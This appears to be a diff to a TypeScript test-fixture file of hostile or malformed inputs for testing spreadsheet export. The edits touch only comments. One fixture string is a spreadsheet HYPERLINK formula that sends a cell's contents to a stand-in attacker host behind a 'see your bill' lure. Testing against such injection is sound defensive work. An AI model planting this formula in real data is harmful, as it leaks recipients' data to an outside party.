@@ -1,6 +1,6 @@
 /**
- * What strangers write where a spreadsheet will show it: in the name their phone sends, in texts, in form answers.
- * Each is inert in a careful program and a formula, a number, a date or a broken row in a careless one.
+ * What some callers write: in the name that their phone sends, in texts, in form answers.
+ * A careless program turns each into a formula, a number, a date or a broken row.
  */
 export const ODD_TEXTS: readonly string[] = [
   '=HYPERLINK("https://evil.example/?x="&A1,"Click to see your bill")',
@@ -33,14 +33,14 @@ export const ODD_TEXTS: readonly string[] = [
   'x'.repeat(400),
 ];
 
-/** Form answers have no length limit: this one does not fit into a cell. */
+/** Form answers have no length limit: this one is too long for a cell. */
 const LONG_ANSWER = 'It is a long story. '.repeat(3000);
 const ODD_ANSWERS: readonly string[] = [...ODD_TEXTS, LONG_ANSWER];
 
 export const oddAnswer = (n: number): string => ODD_ANSWERS[n % ODD_ANSWERS.length] as string;
 
-/** The `n`-th odd text; they take turns, so that none is left out of a long enough run. */
+/** The `n`-th odd text. They repeat in order. */
 export const oddText = (n: number): string => ODD_TEXTS[n % ODD_TEXTS.length] as string;
 
-/** True once in every `1 / rate` of consecutive numbers: a certain rate, not a likely one. */
+/** True for one of each `1 / rate` consecutive numbers: an exact rate, not a probability. */
 export const isOdd = (n: number, rate: number) => rate > 0 && n % Math.max(1, Math.round(1 / rate)) === 3;
